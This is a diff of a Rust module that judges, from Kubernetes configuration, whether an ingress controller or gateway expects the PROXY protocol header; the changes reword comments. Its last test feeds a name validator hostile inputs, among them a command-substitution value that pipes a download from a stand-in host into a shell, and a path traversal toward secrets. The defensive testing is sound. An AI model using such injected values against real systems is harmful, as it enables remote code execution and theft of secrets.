@@ -1,6 +1,6 @@
-//! Whether an application expects the PROXY protocol header, by its configuration. Pure.
+//! Judges by its configuration whether an application expects the PROXY protocol header. Pure.
 //!
-//! Each of the usual ingress controllers and gateways has its own switch. What is not one of them is not known.
+//! Each of the usual ingress controllers and gateways has its own switch. For any other application the answer is unknown.
 
 use std::collections::BTreeMap;
 
@@ -9,28 +9,28 @@ use serde_json::{Value, json};
 use crate::facts::{BackendFacts, Container, Looked};
 use crate::finding::{Evidence, Fix};
 
-/// What an application expects.
+/// Whether an application expects the header.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Expectation {
-    /// The header, from everybody.
+    /// It requires the header from every client.
     Required,
-    /// The header, or none.
+    /// It accepts connections with and without the header.
     Either,
     /// No header.
     Off,
-    /// Nobody knows, and why.
+    /// The expectation is not known, for this reason.
     Unknown(String),
 }
 
-/// What an application expects, and where that was read.
+/// What an application expects, and the evidence.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Judgement {
     /// The program: `ingress-nginx`.
     pub program: &'static str,
     pub expects: Expectation,
-    /// Where that was read.
+    /// The configuration that shows the expectation.
     pub evidence: Vec<Evidence>,
-    /// What switches it on; absent where nobody knows what configures it.
+    /// How to make the application accept the header; absent where its configuration is not known.
     pub switch: Option<Fix>,
 }
 
@@ -44,7 +44,7 @@ impl Judgement {
     }
 }
 
-/// Judges the application behind a Service.
+/// Judges whether the application behind a Service expects the header.
 pub fn judge(facts: &BackendFacts) -> Judgement {
     let judges: [fn(&BackendFacts) -> Option<Judgement>; 9] = [
         ingress_nginx,
@@ -65,7 +65,7 @@ pub fn judge(facts: &BackendFacts) -> Judgement {
     })
 }
 
-/// The container whose image, without registry and tag, ends so, or that is started by such a program.
+/// Finds the container whose image, without its tag, ends with one of `images`, or that starts one of `programs`.
 fn container<'a>(facts: &'a BackendFacts, images: &[&str], programs: &[&str]) -> Option<&'a Container> {
     facts.containers.iter().find(|container| {
         let image = container.image.split('@').next().unwrap_or_default();
@@ -78,7 +78,7 @@ fn container<'a>(facts: &'a BackendFacts, images: &[&str], programs: &[&str]) ->
     })
 }
 
-/// The value of a flag: `--flag=value`, `-flag=value` or two words.
+/// Returns the value of a flag, given as `--flag=value`, `-flag=value` or two words.
 fn flag<'a>(container: &'a Container, name: &str) -> Option<&'a str> {
     let bare = |word: &'a str| word.trim_start_matches('-');
     let words = &container.words;
@@ -98,8 +98,8 @@ fn flag<'a>(container: &'a Container, name: &str) -> Option<&'a str> {
     })
 }
 
-/// Whether an object of Kubernetes can have this name. Whoever writes the arguments of a pod may write anything, and the name goes
-/// into a path of the API server and into a command.
+/// Whether a text is a valid name of a Kubernetes object. The name comes from the arguments of a pod, which may hold any text, and
+/// goes into a path of the API server and into a command.
 pub fn is_object_name(name: &str) -> bool {
     let is_label = |label: &str| {
         let inner = |letter: u8| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == b'-';
@@ -126,7 +126,7 @@ fn is_true(value: &str) -> bool {
     value.eq_ignore_ascii_case("true")
 }
 
-/// A program that one key of one ConfigMap switches.
+/// Judges a program that reads the switch from one key of one ConfigMap.
 fn by_config_map(
     facts: &BackendFacts,
     container: &Container,
@@ -178,13 +178,13 @@ fn f5_nginx(facts: &BackendFacts) -> Option<Judgement> {
 
 fn haproxy_ingress(facts: &BackendFacts) -> Option<Judgement> {
     let container = container(facts, &["haproxytech/kubernetes-ingress"], &["haproxy-ingress-controller"])?;
-    // It takes the header from the networks that are listed, and connections without from all others.
+    // HAProxy Ingress takes the header from the listed networks, and connections without it from all others.
     let expects = |value: &str| if value.is_empty() { Expectation::Off } else { Expectation::Either };
     let key = ("configmap", "proxy-protocol");
     Some(by_config_map(facts, container, "HAProxy Ingress", key, expects, "CIDR of the load balancer"))
 }
 
-/// What one kind of custom resource says, the first that says something.
+/// Judges by the first custom resource of a kind that has the setting.
 fn by_resource(
     facts: &BackendFacts,
     program: &'static str,
@@ -233,7 +233,7 @@ fn envoy_gateway(facts: &BackendFacts) -> Option<Judgement> {
     }))
 }
 
-/// It accepts connections with and without the header. A file of its own may configure it too.
+/// Traefik accepts connections with and without the header. A file may configure it too, which is not read.
 fn traefik(facts: &BackendFacts) -> Option<Judgement> {
     let container = container(facts, &["traefik", "traefik/traefik"], &["traefik"])?;
     let of_proxy = |word: &&String| {
@@ -270,7 +270,7 @@ fn contour(facts: &BackendFacts) -> Option<Judgement> {
         on.then(|| (Expectation::Required, "envoy.listener.useProxyProtocol".to_owned()))
     }))
     .map(|judgement| match judgement.expects {
-        // The flag of the other Deployment is not seen here.
+        // The flag of Contour's other Deployment is not read.
         Expectation::Off if facts.resources.iter().all(|one| one.kind != "ContourConfiguration") => {
             Judgement::unknown(
                 "Contour",
@@ -388,7 +388,7 @@ mod tests {
         assert!(matches!(judge(&running("example.org/shop:1", &[])).expects, Expectation::Unknown(_)));
     }
 
-    /// Whoever may run a pod may write its arguments.
+    /// Any user who may run a pod may write any text into its arguments.
     #[test]
     fn a_name_that_no_config_map_can_have_is_not_known() {
         for name in ["nginx?$(curl${IFS}evil.example|sh)", "a b", "../secrets/x", "-n", ""] {
